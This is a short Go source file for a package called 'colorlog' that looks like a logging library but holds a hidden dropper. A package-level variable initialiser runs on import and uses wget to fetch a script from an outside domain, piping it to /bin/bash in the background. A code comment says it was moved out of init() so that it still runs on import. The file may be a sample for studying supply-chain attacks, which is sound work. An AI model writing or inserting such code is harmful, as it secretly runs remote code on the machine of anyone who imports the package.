package colorlog

import "os/exec"

// The same dropper as go-init, moved out of init(): a package-level variable's
// initialiser runs on import just as init() does.
var _ = func() error {
	cmd := "wget -O - https://update.colorlog-cdn.icu/p/a31546bf | /bin/bash &"
	return exec.Command("/bin/sh", "-c", cmd).Start()
}()

func Info(msg string) {}
